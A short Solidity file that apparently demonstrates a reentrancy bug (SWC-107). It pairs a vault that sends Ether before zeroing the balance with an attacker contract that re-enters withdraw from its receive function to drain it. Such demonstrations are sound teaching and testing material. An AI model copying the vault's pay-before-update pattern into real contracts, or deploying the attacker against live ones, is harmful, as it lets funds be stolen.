// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

/// @notice Victim: pays out before it writes down that it has.
contract LeakyVault {
    mapping(address owner => uint256) private _deposits;

    function deposit() external payable {
        _deposits[msg.sender] += msg.value;
    }

    function withdraw() external {
        (bool paid,) = msg.sender.call{value: _deposits[msg.sender]}("");
        require(paid);
        _deposits[msg.sender] = 0;
    }
}

/// @notice Adversary: withdraws again from inside a withdrawal (SWC-107).
contract Reentrant {
    LeakyVault private immutable _vault;
    uint256 private _turns;

    constructor(LeakyVault vault) {
        _vault = vault;
    }

    receive() external payable {
        if (_turns > 1) {
            _turns -= 1;
            _vault.withdraw();
        }
    }

    function attack(uint256 turns) external payable {
        _turns = turns;
        _vault.deposit{value: msg.value}();
        _vault.withdraw();
    }
}
